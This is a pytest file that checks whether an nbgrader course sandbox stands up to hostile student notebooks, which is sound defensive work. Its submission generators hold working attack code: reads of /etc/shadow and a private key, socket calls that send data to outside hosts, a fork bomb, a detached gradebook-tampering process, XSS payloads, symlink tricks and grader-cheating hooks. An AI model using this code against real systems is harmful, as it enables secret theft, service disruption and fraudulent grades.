"""nbgrader end to end against hostile submissions: every lab, the sandbox, and the graded quiz.

Each job is one temporary nbgrader course configured by the repository's own config (nbgrader_config.py for the
labs, quizzes/graded/nbgrader_config.py for the quiz; root and gradebook moved there). The real pipeline runs
once per job: generate_assignment, one submission per student below, NbGraderAPI.autograde for each,
generate_feedback for all, the CSV export; the tests then read the gradebook, the autograded notebooks and the
feedback. Jobs run in parallel worker processes (one course each, so no SQLite gradebook sees two writers). The
student kernels run in the bubblewrap sandbox the config installs (grading/sandbox.py): bwrap must be
installed (.ci/run installs it); without it autograde refuses to run and these tests fail.

Lab students (every lab; what each submission does, and what it must get):
- solution: the instructor's solution: full marks. release: the release untouched: 0.
- partial: the first task answered: exactly that task's points.
- hang: the solution with `while True: pass` after the first answer: that cell times out, the rest score.
- hang_sigint: the same loop after ignoring SIGINT: the grader kills the kernel, the later cells fail.
- os_exit / kill: the kernel leaves or is killed: tests before keep their points, later ones fail "not run".
- sys_exit, showtraceback (nbgrader's own exploit), displayhook (partial credit printed before an error): 0.
- flood: megabytes printed in many messages: output capped, full marks.
- tamper: test cells edited, deleted, retyped, relabelled, duplicated, a bonus cell: restored, 0.
- rebind: a cell after each locked cell rebinds what it defined to an object equal to everything: 0 (the
  hidden tests use their own copies; tools/harden.py makes them, and every lab must need no hardening).
- transformer: an IPython input transformer wraps later cells in try/except: flagged for review (the second
  line: inside the kernel nothing stops it).
- skip_tags: the release with `skip-execution` and `raises-exception` on every cell: 0, every test cell ran.
  skip_tags_unstripped: the same, graded without StripExecutionControl: still 0 (a test cell that did not run
  fails "NotRun").
Sandbox students (the first lab, one course of their own):
- snoop: tries to read the source notebooks, the gradebook, the issuer key, the private bank, the grader's home,
  another student's submission, /etc/shadow, the repository; every read fails; 0.
- exec_source: reads the source notebook from disk and execs its solutions: it cannot; 0.
- copy_other: os.chdir into another student's folder and execs their notebook: it cannot; 0.
- background: a detached process that outlives the kernel and then edits the gradebook: dead with the kernel,
  the gradebook unchanged.
- fork_bomb: stopped by the process limit, killed with the kernel, nothing left; 0.
- alloc_4g: the solution plus a 4 GiB allocation: MemoryError in that cell (the memory limit), full marks.
- print_200mb: the solution plus a 200 MB print in one call: the message is refused before the grader
  allocates it (its peak memory grows by far less), the cell fails "OutputTooLarge", full marks.
- network: connects to a server the grader listens on (127.0.0.1) and to the internet: nothing connects; 0.
- key_print: prints a private key it somehow holds (the issuer key's PEM, pasted): the feedback has none of it.
- inject: the solution plus HTML with <script> and onerror, Javascript, an SVG with onload, Markdown with a
  javascript: link, a non-base64 PNG, and a markdown cell of raw HTML: full marks, only text/plain and images in
  the autograded notebook, nothing active in the feedback HTML.
- leak_tests: the solution, each answer wrapping its functions to print the calling test cell's source
  (linecache), and a last cell of its own printing what they captured: full marks, no hidden test in feedback.
- links (notes.txt and timestamp.txt linked to the issuer key, src.json to the source notebook), hardlink (the key
  hard-linked), link_notebook (the notebook a link to the key), link_folder (the folder a link to the source
  folder), fifo: refused before anything is read, by name in the log, no grade, nothing of the key in the log.
Quiz students (quiz1 built from the sample private bank in tests/fixtures/private_bank with a fresh secret):
- q_solution: the right answers to the student's own draw, as literals: full marks.
- q_release: 0. q_partial: the first question of the draw: exactly its points.
- q_skip_tags: the release with execution-control tags on every cell: 0.
- q_kernel_cheats: q_partial plus, before the slot cells, the shape check replaced by a no-op (every slot cell
  passes in the kernel), `importlib.reload = lambda m: m`, a patched math.isclose, an assert-stripping AST
  transformer spelled with getattr and string concatenation, os.chdir into another student's folder and exec of
  their notebook: exactly q_partial's points (the grader reads literals from the source, in its process).
- q_key_import: imports quizzes.graded, reads its files, the private bank and the secret wherever it can
  guess them, and writes what it computed as answers: 0, and none of the key reached its outputs.
The feedback of every student holds no hidden test, no private key and no course secret.
"""

from __future__ import annotations

import copy
import csv
import html
import json
import os
import re
import resource
import shutil
import socket
import sys
import threading
import time
import traceback
import uuid
from collections.abc import Callable, Iterator
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field
from multiprocessing import get_context
from pathlib import Path

import nbformat
import pytest
from nbformat import NotebookNode
from traitlets.config.loader import PyFileConfigLoader

ROOT = Path(__file__).resolve().parent.parent
LABS_SOURCE = ROOT / "labs" / "source"
REPO_CONFIG = ROOT / "nbgrader_config.py"
QUIZ_DIR = ROOT / "quizzes" / "graded"
QUIZ_CONFIG = QUIZ_DIR / "nbgrader_config.py"
BANK_FIXTURE = ROOT / "tests" / "fixtures" / "private_bank"
HANG_TIMEOUT_S = 5  # Execute.timeout for the looping students (the repository's config says 30)
HANG_GRACE_S = 3  # GuardedExecute.interrupt_grace for them
PRINT_BYTES = 200_000_000
MAXRSS_GROWTH_KB = 100 * 1024  # the grader's peak memory may grow by this much while grading print_200mb
# nbgrader's own gradebook code trips SQLAlchemy's session warnings; they say nothing about the submissions
pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")


from tools import harden as harden_tool  # noqa: E402  (tools/ is a package; pytest puts the root on the path)

meta, is_test, is_answer = harden_tool.meta, harden_tool.is_test, harden_tool.is_answer
HIDDEN, MARKERS = harden_tool.HIDDEN, harden_tool.MARKERS


@dataclass(frozen=True)
class Assignment:
    name: str  # the nbgrader assignment id, also the notebook's name
    source_dir: Path  # the course's source folder: source_dir/<name>/<name>.ipynb
    config: Path  # the nbgrader_config.py an instructor grades it with

    @property
    def notebook(self) -> Path:
        return self.source_dir / self.name / f"{self.name}.ipynb"

    def source(self) -> NotebookNode:
        return nbformat.read(self.notebook, as_version=4)


# the English labs: a translated lab (labs/source/<lab>_vi, _de) is built from its English lab with every graded
# cell, hidden test and helper identical (course_i18n refuses to build it otherwise), so it defends the same way
LABS = sorted(p.name for p in LABS_SOURCE.iterdir()
              if (p / f"{p.name}.ipynb").is_file() and not p.name.endswith(("_vi", "_de")))
LAB = {lab: Assignment(lab, LABS_SOURCE, REPO_CONFIG) for lab in LABS}
QUIZ = "quiz1"
SANDBOX = f"sandbox:{LABS[0]}"  # the job that grades the sandbox's students, on the first lab


# --- Notebook helpers ----------------------------------------------------------------------------------------------

def points(nb: NotebookNode) -> dict[str, float]:
    return {meta(c)["grade_id"]: float(meta(c)["points"]) for c in nb.cells if meta(c).get("grade")}


def group(grade_id: str) -> str:
    """A task's answers and tests share the grade id's first word: task1_sizes / task1_sizes_tests."""
    return grade_id.split("_")[0]


def without_markers(source: str) -> str:
    return "\n".join(line for line in source.splitlines() if not any(m in line for m in MARKERS))


def first_answer(nb: NotebookNode) -> NotebookNode:
    return next(c for c in nb.cells if is_answer(c))


def last_answer(nb: NotebookNode) -> NotebookNode:
    return [c for c in nb.cells if is_answer(c)][-1]


def first_group(nb: NotebookNode) -> str:
    return group(next(meta(c)["grade_id"] for c in nb.cells if is_test(c)))


def points_before(nb: NotebookNode, cell: NotebookNode) -> float:
    index = next(i for i, c in enumerate(nb.cells) if c is cell)
    return sum(float(meta(c)["points"]) for c in nb.cells[:index] if meta(c).get("grade"))


def errors(cell: NotebookNode) -> list[str]:
    return [o.get("ename", "") for o in cell.get("outputs", []) if o.output_type == "error"]


def text_of(cell: NotebookNode) -> str:
    parts = []
    for o in cell.get("outputs", []):
        parts += [o.get("text", ""), o.get("evalue", ""), *o.get("traceback", [])]
        parts += [str(v) for v in o.get("data", {}).values()]
    return "\n".join(parts)


def html_text(path: Path) -> str:
    """The text a reader of the feedback HTML sees (tags, highlighting spans and entities removed)."""
    return html.unescape(re.sub(r"<[^>]+>", "", path.read_text(encoding="utf-8")))


def hidden_only_lines(nb: NotebookNode) -> list[str]:
    """Lines of the hidden tests that appear nowhere else in the notebook (so their presence means a leak)."""
    hidden = [line.strip() for c in nb.cells for block in HIDDEN.findall(c.source) for line in block[1].splitlines()]
    elsewhere = "\n".join(HIDDEN.sub("", c.source) for c in nb.cells)
    return sorted({line for line in hidden if len(line) >= 20 and line not in elsewhere and not line.startswith("#")})


# --- The hostile students --------------------------------------------------------------------------------------------

ANYTHING = '''\
class _Anything:
    """Equal to anything, true, callable, indexable, containing everything: what a cheat puts in a checker's place."""

    def __call__(self, *args, **kwargs):
        return self

    def __getattr__(self, name):
        return self

    def __getitem__(self, key):
        return self

    def __contains__(self, item):
        return True

    def __iter__(self):
        return iter(())

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__


for _op in ("add", "sub", "mul", "truediv", "floordiv", "mod", "pow", "lshift", "rshift", "and", "or", "xor"):
    setattr(_Anything, f"__{_op}__", lambda self, *args: self)
    setattr(_Anything, f"__r{_op}__", lambda self, *args: self)
for _op in ("lt", "le", "gt", "ge"):
    setattr(_Anything, f"__{_op}__", lambda self, other: True)
'''

FLOOD_LINE_CHARS = 5_000_000
FLOOD_LINES = 20_000
EXECUTION_TAGS = ["skip-execution", "raises-exception"]


@dataclass
class Context:
    """What a submission is made from. `secrets` are what the attacker would like to reach (paths, the key)."""

    assignment: Assignment
    root: Path  # the course directory
    source: NotebookNode
    release: NotebookNode
    token: str  # marks the processes a submission starts, to find survivors
    port: int = 0  # a TCP server of the grader's, on 127.0.0.1
    key_path: str = ""
    key_pem: str = ""
    bank: str = ""
    solution_for: Callable[[str], NotebookNode] | None = None

    def solution(self, student: str) -> NotebookNode:
        return self.solution_for(student) if self.solution_for else copy.deepcopy(self.source)

    def targets(self) -> dict[str, str]:
        """Files and folders no submission may read: name -> path (absolute, or relative to the kernel's folder)."""
        name = self.assignment.name
        return {
            "repository source notebook": str(LABS_SOURCE / name / f"{name}.ipynb") if name in LAB else str(
                QUIZ_DIR / "source" / name / f"{name}.ipynb"),
            "course source notebook": str(self.root / "source" / name / f"{name}.ipynb"),
            "course source, relative": f"../../../source/{name}/{name}.ipynb",
            "gradebook": str(self.root / "gradebook.db"),
            "gradebook, relative": "../../../gradebook.db",
            "issuer key": self.key_path,
            "private bank": str(BANK_FIXTURE / "quiz1.json"),
            "course bank": self.bank or str(self.root / "bank"),
            "grader's home": os.path.expanduser("~"),
            "another submission": str(self.root / "submitted" / "solution" / name / f"{name}.ipynb"),
            "another autograded, relative": f"../../solution/{name}/{name}.ipynb",
            "repository config": str(REPO_CONFIG),
            "/etc/shadow": "/etc/shadow",
        }


def release_with(ctx: Context, *sources: str) -> NotebookNode:
    """The release with its first answer cells replaced by `sources`."""
    nb = copy.deepcopy(ctx.release)
    for cell, source in zip([c for c in nb.cells if is_answer(c)], sources, strict=False):
        cell.source = source
    return nb


def appended(nb: NotebookNode, cell: NotebookNode, code: str) -> NotebookNode:
    cell.source += "\n\n" + code
    return nb


def s_solution(ctx: Context, student: str) -> NotebookNode:
    return ctx.solution(student)


def s_release(ctx: Context, student: str) -> NotebookNode:
    return copy.deepcopy(ctx.release)


def s_partial(ctx: Context, student: str) -> NotebookNode:
    nb = copy.deepcopy(ctx.release)
    solution = {meta(c)["grade_id"]: c.source for c in ctx.solution(student).cells if is_answer(c)}
    task = first_group(nb)
    for cell in nb.cells:
        if is_answer(cell) and group(meta(cell)["grade_id"]) == task:
            cell.source = without_markers(solution[meta(cell)["grade_id"]])
    return nb


def s_hang(ctx: Context, student: str) -> NotebookNode:
    nb = ctx.solution(student)
    return appended(nb, first_answer(nb), "while True:  # never returns\n    pass\n")


def s_hang_sigint(ctx: Context, student: str) -> NotebookNode:
    nb = ctx.solution(student)
    return appended(nb, first_answer(nb), (
        "import signal\n\nsignal.signal(signal.SIGINT, signal.SIG_IGN)  # no interrupt\nwhile True:\n    pass\n"))


def s_os_exit(ctx: Context, student: str) -> NotebookNode:
    nb = ctx.solution(student)
    return appended(nb, last_answer(nb), "import os\n\nos._exit(0)\n")


def s_kill(ctx: Context, student: str) -> NotebookNode:
    return release_with(ctx, "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGKILL)\n")


def s_sys_exit(ctx: Context, student: str) -> NotebookNode:
    return release_with(ctx, "import sys\n\nsys.exit(0)\n", "quit()\n")


def s_showtraceback(ctx: Context, student: str) -> NotebookNode:
    return release_with(ctx, (
        "from IPython.core.interactiveshell import InteractiveShell\n\n\n"
        "def _quiet(*args, **kwargs):\n    pass\n\n\n"
        "InteractiveShell.showtraceback = _quiet\nget_ipython().showtraceback = _quiet\n"))


def s_displayhook(ctx: Context, student: str) -> NotebookNode:
    return release_with(ctx, (
        "import sys\n\nfrom IPython.core.interactiveshell import InteractiveShell\n\n"
        "_run_nodes = InteractiveShell.run_ast_nodes\n\n\n"
        "async def _run_ast_nodes(self, nodelist, *args, **kwargs):\n"
        "    sys.displayhook('full marks, please')  # an execute_result before anything else in every cell\n"
        "    return await _run_nodes(self, nodelist, *args, **kwargs)\n\n\n"
        "InteractiveShell.run_ast_nodes = _run_ast_nodes\n"))


def s_flood(ctx: Context, student: str) -> NotebookNode:
    nb = ctx.solution(student)
    return appended(nb, first_answer(nb), (f"print('x' * {FLOOD_LINE_CHARS})  # one line of megabytes\n"
                                           f"for _ in range({FLOOD_LINES}):\n    print('y' * 100)\n"))


def s_tamper(ctx: Context, student: str) -> NotebookNode:
    nb = copy.deepcopy(ctx.release)
    tests = [c for c in nb.cells if is_test(c)]
    tricks = ["edit", "delete", "strip", "markdown", "rename", "unlock", "points", "duplicate"]
    deleted, duplicates = [], []
    for k, cell in enumerate(tests):
        trick = tricks[k % len(tricks)]
        if trick == "delete":
            deleted.append(cell)
            continue
        if trick == "markdown":  # nbgrader issue 1941: a student changes the cell type
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
            continue
        cell.source = "pass"
        if trick == "strip":
            del cell.metadata["nbgrader"]
        elif trick == "rename":
            meta(cell)["grade_id"] = "bonus"
        elif trick == "unlock":
            meta(cell)["locked"] = False
        elif trick == "points":
            meta(cell)["points"] = 100
        elif trick == "duplicate":  # nbgrader issue 1083: a copy of the test with the same grade_id, after it
            twin = copy.deepcopy(cell)
            twin.id = f"{cell.id}-copy"
            duplicates.append((cell, twin))
    for cell, twin in duplicates:
        nb.cells.insert(nb.cells.index(cell) + 1, twin)
    nb.cells = [c for c in nb.cells if all(c is not d for d in deleted)]
    answer = first_answer(nb)
    meta(answer).update(grade=True, points=50)  # an answer cell that claims to be worth 50 points
    bonus = nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "points": 100, "grade_id": "extra_credit",
        "schema_version": 3}})
    nb.cells.append(bonus)
    return nb


def s_rebind(ctx: Context, student: str) -> NotebookNode:
    nb = copy.deepcopy(ctx.release)
    helpers = harden_tool.shadowable(nb, ())  # the cheat rebinds everything
    cells = []
    for i, cell in enumerate(nb.cells):
        cells.append(cell)
        if i in helpers and helpers[i]:
            lines = [ANYTHING] if not any("_Anything" in c.source for c in cells) else []
            lines += [f"{name} = _Anything()" for name in helpers[i]]
            cells.append(nbformat.v4.new_code_cell("\n".join(lines) + "\n"))
    nb.cells = cells
    return nb


def s_transformer(ctx: Context, student: str) -> NotebookNode:
    return release_with(ctx, (
        "def _swallow(lines):\n"
        "    return ['try:\\n'] + ['    ' + line for line in lines] + ['\\nexcept BaseException:\\n    pass\\n']\n\n\n"
        "get_ipython().input_transformers_post.append(_swallow)\n"))


def s_skip_tags(ctx: Context, student: str) -> NotebookNode:
    nb = copy.deepcopy(ctx.release)
    for cell in nb.cells:
        cell.metadata["tags"] = list(EXECUTION_TAGS)
    return nb


READ_ALL = '''\
import os

_targets = {targets!r}
for _name, _path in _targets.items():
    try:
        if os.path.isdir(_path):
            _got = sorted(os.listdir(_path))
        else:
            with open(_path, "rb") as _f:
                _got = _f.read(300)
        print("READ", _name, repr(_got)[:300])
    except Exception as _e:
        print("DENIED", _name, type(_e).__name__)
'''


def s_snoop(ctx: Context, student: str) -> NotebookNode:
    nb = release_with(ctx, READ_ALL.format(targets=ctx.targets()))
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "unsandboxed, please", "language": "python"}
    return nb


EXEC_NOTEBOOKS = '''\
import glob, json, os

_found = []
for _pattern in {patterns!r}:
    for _path in glob.glob(_pattern):
        try:
            with open(_path) as _f:
                _cells = json.load(_f)["cells"]
        except Exception as _e:
            print("DENIED", _path, type(_e).__name__)
            continue
        _found.append(_path)
        for _cell in _cells:
            if _cell["cell_type"] == "code" and _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
                try:
                    exec("".join(_cell["source"]), globals())
                except Exception as _e:
                    print("exec failed", type(_e).__name__)
print("FOUND", _found)
'''


def s_exec_source(ctx: Context, student: str) -> NotebookNode:
    name = ctx.assignment.name
    patterns = [str(LABS_SOURCE / name / "*.ipynb"), str(ctx.root / "source" / name / "*.ipynb"),
                f"../../../source/{name}/*.ipynb", "/**/source/*/*.ipynb"]
    return release_with(ctx, EXEC_NOTEBOOKS.format(patterns=patterns))


def s_copy_other(ctx: Context, student: str) -> NotebookNode:
    name = ctx.assignment.name
    other = str(ctx.root / "submitted" / "solution" / name)
    code = (f"import os\n\nfor _where in ('../../solution/{name}', {other!r}):\n"
            "    try:\n        os.chdir(_where)\n        print('CHDIR', _where)\n        break\n"
            "    except OSError as _e:\n        print('DENIED', _where, type(_e).__name__)\n")
    return release_with(ctx, code + EXEC_NOTEBOOKS.format(patterns=["*.ipynb", f"../*/{name}/*.ipynb"]))


def s_background(ctx: Context, student: str) -> NotebookNode:
    # a detached grandchild (new session, parent gone) that waits for the kernel to end, then writes the gradebook
    child = (f"import os, time, sqlite3  # {ctx.token}\n"
             "time.sleep(2)\n"
             f"for p in {[ctx.targets()['gradebook'], '../../../gradebook.db']!r}:\n"
             "    try:\n"
             "        db = sqlite3.connect(p)\n"
             "        db.execute('update grade set auto_score = 1000')\n"
             "        db.commit()\n"
             "    except Exception:\n"
             "        pass\n"
             "time.sleep(600)\n")
    code = ("import subprocess, sys\n\n"
            f"subprocess.Popen([sys.executable, '-c', {child!r}], start_new_session=True,\n"
            "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
            "print('started')\n")
    return release_with(ctx, code)


def s_fork_bomb(ctx: Context, student: str) -> NotebookNode:
    bomb = (f"import os  # {ctx.token}\n"
            "while True:\n"
            "    try:\n"
            "        os.fork()\n"
            "    except OSError:\n"
            "        pass\n")
    code = ("import subprocess, sys\n\n"
            "for _ in range(4):\n"
            f"    subprocess.Popen([sys.executable, '-c', {bomb!r}])\n"
            f"exec({bomb!r})\n")
    return release_with(ctx, code)


def s_alloc_4g(ctx: Context, student: str) -> NotebookNode:
    nb = ctx.solution(student)
    return appended(nb, first_answer(nb), "_big = bytearray(4 * 1024**3)  # 4 GiB, touched by the zeroing\n")


def s_print_200mb(ctx: Context, student: str) -> NotebookNode:
    nb = ctx.solution(student)
    return appended(nb, first_answer(nb), f"print('x' * {PRINT_BYTES})  # one message of 200 MB\n")


def s_network(ctx: Context, student: str) -> NotebookNode:
    code = ("import socket\n\n"
            f"for _host, _port in [('127.0.0.1', {ctx.port}), ('1.1.1.1', 53), ('8.8.8.8', 53)]:\n"
            "    try:\n"
            "        socket.create_connection((_host, _port), timeout=3).sendall(b'answers')\n"
            "        print('CONNECTED', _host)\n"
            "    except OSError as _e:\n"
            "        print('DENIED', _host, type(_e).__name__)\n")
    return release_with(ctx, code)


def s_key_print(ctx: Context, student: str) -> NotebookNode:
    return release_with(ctx, f"print({ctx.key_pem!r})\n")


INJECT = """\
from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML("<script>alert('INJ1')</script><img src=x onerror=alert('INJ2')>"))
display(Javascript("alert('INJ3')"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\\'INJ4\\')"></svg>'))
display(Markdown("[click](javascript:alert('INJ5'))"))
display({"text/plain": "x", "image/png": '"><script>alert(1)</script>'}, raw=True)
"""
INJECTED_MARKDOWN = "<script>alert('INJ6')</script>\n\n<a href=\"javascript:alert('INJ7')\">see</a>"
ACTIVE = re.compile(  # in a tag, not in text shown escaped (&lt;a href="javascript:...")
    r"<script[^>]*>[^<]*(?:alert|INJ)|<img[^>]*onerror|<svg[^>]*onload|<[a-z]+[^>]*href=[\"']?\s*javascript:", re.I)


def s_inject(ctx: Context, student: str) -> NotebookNode:
    """The solution, plus script in every form a cell can display, and a markdown cell of raw HTML."""
    nb = ctx.solution(student)
    cell = first_answer(nb)
    cell.source += "\n\n" + INJECT
    nb.cells.insert(nb.cells.index(cell) + 1, nbformat.v4.new_markdown_cell(INJECTED_MARKDOWN))
    return nb


LEAK_TESTS = """\
import functools as _ft, linecache as _lc, sys as _sys, types as _types

_captured = globals().get("_captured", [])
_seen = globals().get("_seen", set())


def _leak(_f):
    @_ft.wraps(_f)
    def _w(*a, **k):
        _name = _sys._getframe(1).f_code.co_filename
        if _name not in _seen:  # once per calling cell
            _seen.add(_name)
            _src = "".join(_lc.getlines(_name))
            _captured.append(_src)
            print("LEAK", _src)
        return _f(*a, **k)
    _w._leaky = True
    return _w


for _n, _v in list(globals().items()):
    if isinstance(_v, _types.FunctionType) and not _n.startswith("_") and not getattr(_v, "_leaky", False):
        globals()[_n] = _leak(_v)
"""
# a cell of the student's own, after the last test: prints every cell the kernel ran that the student did not write
LEAK_LATER = """\
print("LATER", "\\n".join(_captured))
"""


def s_leak_tests(ctx: Context, student: str) -> NotebookNode:
    """The solution, with every answer wrapping its functions to print the calling test cell's source."""
    nb = ctx.solution(student)
    for cell in nb.cells:
        if is_answer(cell):
            cell.source += "\n\n" + LEAK_TESTS
    nb.cells.append(nbformat.v4.new_code_cell(LEAK_LATER))
    return nb


def s_links(ctx: Context, student: str) -> NotebookNode:
    """The release, printing (reversed) a notes.txt that links to the issuer key; timestamp.txt links to it too."""
    return release_with(ctx, "print(open('notes.txt').read()[::-1])\nprint(open('src.json').read()[:300])\n")


def f_links(ctx: Context, folder: Path) -> None:
    (folder / "notes.txt").symlink_to(ctx.key_path)
    (folder / "timestamp.txt").symlink_to(ctx.key_path)
    (folder / "src.json").symlink_to(ctx.root / "source" / ctx.assignment.name / f"{ctx.assignment.name}.ipynb")


def f_hardlink(ctx: Context, folder: Path) -> None:
    os.link(ctx.key_path, folder / "notes.txt")


def f_link_notebook(ctx: Context, folder: Path) -> None:
    # the notebook is the issuer key: nbformat's NotJSONError used to quote its first line in autograde's log
    notebook = folder / f"{ctx.assignment.name}.ipynb"
    notebook.unlink()
    notebook.symlink_to(ctx.key_path)


def f_link_folder(ctx: Context, folder: Path) -> None:
    shutil.rmtree(folder)
    folder.symlink_to(ctx.root / "source" / ctx.assignment.name, target_is_directory=True)


def f_fifo(ctx: Context, folder: Path) -> None:
    os.mkfifo(folder / "data.txt")


# what is done to a submission's folder after its notebook is written (the student's links)
FOLDERS: dict[str, Callable[[Context, Path], None]] = {
    "links": f_links, "hardlink": f_hardlink, "link_notebook": f_link_notebook, "link_folder": f_link_folder,
    "fifo": f_fifo,
}
REFUSED = tuple(FOLDERS)  # submissions the grader must refuse without reading them


# --- The published lab cheats (issue 22): each also answers some tasks honestly, and must score exactly those -------

GC_REWRITE = '''\
import gc as _gc

# the kernel's shell, found through gc without naming it: every later cell becomes `pass`
for _o in _gc.get_objects():
    if type(_o).__name__.endswith("InteractiveShell"):
        getattr(_o, "input_transformers_" + "post").append(lambda _lines: ["pass\\n"])
'''

LINECACHE_READ = '''\
import linecache as _lc
import re as _re
import sys as _sys


def _expected(_name, _arg):
    """The value the calling test compares this call with, read from the test's own source (linecache)."""
    _frame = _sys._getframe(2)
    _source = "".join(_lc.getlines(_frame.f_code.co_filename))
    for _call, _value in _re.findall(_name + r"\\(([^()]*)\\) == ([^ )\\n]+)", _source):
        try:
            if eval(_call, _frame.f_globals) == _arg:
                return eval(_value, _frame.f_globals)
        except Exception:
            pass
    return 0


def round_size(size: int) -> int:
    return _expected("round_size", size)


def is_small(rounded: int) -> bool:
    return _expected("is_small", rounded)


def segment_size(rounded: int) -> int:
    return _expected("segment_size", rounded)
'''

EXEC_ALLOCATOR = '''\
import minialloc.allocator as _m

# minialloc's allocator run again from its source under a file name of its own, so a check that looks for the
# reference's files sees none of it
_ns = {"__name__": "minialloc.my_allocator", "__package__": "minialloc"}
exec(compile(open(_m.__file__).read(), "/tmp/my_allocator.py", "exec"), _ns)


@dataclass(eq=False)
class Block:
    ptr: int
    size: int
    small: bool
    allocated: bool = False
    prev: "Block | None" = None
    next: "Block | None" = None


class BestFitAllocator:
    def __init__(self, device: SimulatedGPU) -> None:
        self.device = device
        self._inner = _ns["CachingAllocator"](device, "")
        self.pools: dict[bool, list[tuple[int, int]]] = {True: [], False: []}
        self.blocks: dict[int, Block] = {}

    @property
    def reserved_bytes(self) -> int:
        return self._inner.memory_reserved()

    @property
    def allocated_bytes(self) -> int:
        return self._inner.memory_allocated()

    def free_blocks(self) -> list[tuple[int, int]]:
        return sorted((b["address"], b["size"]) for seg in self._inner.snapshot()["segments"]
                      for b in seg["blocks"] if b["state"] == "inactive")

    def malloc(self, size: int) -> int:
        return self._inner.malloc(size)

    def free(self, ptr: int) -> None:
        self._inner.free(ptr)
'''
# the task groups each cheat answers honestly (the solution's code): its score must be exactly theirs
HONEST = {"gc_rewrite": ("task1",), "linecache_read": ("task2",), "exec_allocator": ("task1", "task2")}


def answered(ctx: Context, student: str, cheats: dict[str, str]) -> NotebookNode:
    """The release with the honest groups' answers from the solution, and `cheats` (grade id -> code) appended."""
    nb = copy.deepcopy(ctx.release)
    solution = {meta(c)["grade_id"]: c.source for c in ctx.solution(student).cells if is_answer(c)}
    for cell in nb.cells:
        if not is_answer(cell):
            continue
        grade_id = meta(cell)["grade_id"]
        if group(grade_id) in HONEST[student]:
            cell.source = without_markers(solution[grade_id])
        if grade_id in cheats:
            cell.source = (cell.source + "\n\n" if group(grade_id) in HONEST[student] else "") + cheats[grade_id]
    return nb


def s_gc_rewrite(ctx: Context, student: str) -> NotebookNode:
    return answered(ctx, student, {"task1_sizes": GC_REWRITE})


def s_linecache_read(ctx: Context, student: str) -> NotebookNode:
    return answered(ctx, student, {"task1_sizes": LINECACHE_READ})


def s_exec_allocator(ctx: Context, student: str) -> NotebookNode:
    return answered(ctx, student, {"task3_allocator": EXEC_ALLOCATOR})


LAB_STUDENTS: dict[str, Callable[[Context, str], NotebookNode]] = {
    "solution": s_solution, "release": s_release, "partial": s_partial, "hang": s_hang,
    "hang_sigint": s_hang_sigint, "os_exit": s_os_exit, "kill": s_kill, "sys_exit": s_sys_exit,
    "showtraceback": s_showtraceback, "displayhook": s_displayhook, "flood": s_flood, "tamper": s_tamper,
    "rebind": s_rebind, "transformer": s_transformer, "skip_tags": s_skip_tags, "skip_tags_unstripped": s_skip_tags,
}
SANDBOX_STUDENTS: dict[str, Callable[[Context, str], NotebookNode]] = {
    # print_200mb first: the grader's peak memory is compared before and after it
    "print_200mb": s_print_200mb, "solution": s_solution, "snoop": s_snoop, "exec_source": s_exec_source,
    "copy_other": s_copy_other, "background": s_background, "fork_bomb": s_fork_bomb, "alloc_4g": s_alloc_4g,
    "network": s_network, "key_print": s_key_print, "inject": s_inject, "leak_tests": s_leak_tests,
    "links": s_links, "hardlink": s_links, "link_notebook": s_solution, "link_folder": s_solution,
    "fifo": s_solution, "gc_rewrite": s_gc_rewrite, "linecache_read": s_linecache_read,
    "exec_allocator": s_exec_allocator,
}
# graded with HANG_TIMEOUT_S instead of the repository's 30 s
LOOPING = ("hang", "hang_sigint", "fork_bomb", "forged_reports")
REVIEWED = ("hang_sigint", "os_exit", "kill", "showtraceback", "displayhook", "transformer")  # must be flagged
NOT_REVIEWED = ("solution", "release", "partial", "hang", "flood", "tamper", "skip_tags")  # must not be


# --- The graded quiz's students --------------------------------------------------------------------------------------

def quiz_answers(bank: str, student: str) -> list[tuple[str, object, float]]:
    """(pool key, right answer, points) for each question of `student`'s draw, in slot order (instructor-side)."""
    from quizzes.graded.draw import draw
    from quizzes.graded.pool import load_pool
    from quizzes.graded.scoring import reference_answers
    from quizzes.graded.secret import default_secret_path, load_secret

    secret = load_secret(default_secret_path(Path(bank)))
    right = reference_answers(Path(bank), secret, student, QUIZ)
    slots = draw(load_pool(Path(bank), secret, QUIZ).sheet(), student)
    return [(slot.key, right[slot.key], slot.points) for slot in slots]


def quiz_answered(ctx: Context, student: str, how_many: int | None = None) -> NotebookNode:
    """The release with STUDENT_ID set and the first `how_many` questions of the draw answered, as literals."""
    nb = copy.deepcopy(ctx.release)
    chosen = quiz_answers(ctx.bank, student)[:how_many]
    for cell in nb.cells:
        if cell.cell_type != "code" or meta(cell).get("locked"):
            continue
        if cell.source.startswith("STUDENT_ID"):
            cell.source = f"STUDENT_ID = {student!r}"
        for key, value, _ in chosen:
            if cell.source.startswith(f'answers["{key}"]'):
                cell.source = f'answers["{key}"] = {value!r}'
    return nb


def q_solution(ctx: Context, student: str) -> NotebookNode:
    return quiz_answered(ctx, student)


def q_release(ctx: Context, student: str) -> NotebookNode:
    return copy.deepcopy(ctx.release)


def q_partial(ctx: Context, student: str) -> NotebookNode:
    return quiz_answered(ctx, student, 1)


def q_skip_tags(ctx: Context, student: str) -> NotebookNode:
    nb = copy.deepcopy(ctx.release)
    for cell in nb.cells:
        cell.metadata["tags"] = list(EXECUTION_TAGS)
    return nb


KERNEL_CHEATS = '''\
import ast, importlib, math, os

Q.check = lambda *a, **k: None  # every slot cell below now passes in the kernel
importlib.reload = lambda m: m  # the old quiz reloaded its checker
math.isclose = lambda *a, **k: True  # and compared numbers with isclose


class _Strip(getattr(ast, "Node" + "Transformer")):
    def visit_Assert(self, node):  # every assert becomes `pass`
        return getattr(ast, "Pa" + "ss")()


getattr(get_ipython(), "ast_" + "transformers").append(_Strip())
for _where in ("../../q_solution/quiz1", {other!r}):
    try:
        os.chdir(_where)
        print("CHDIR", _where)
        break
    except OSError as _e:
        print("DENIED", _where, type(_e).__name__)
'''


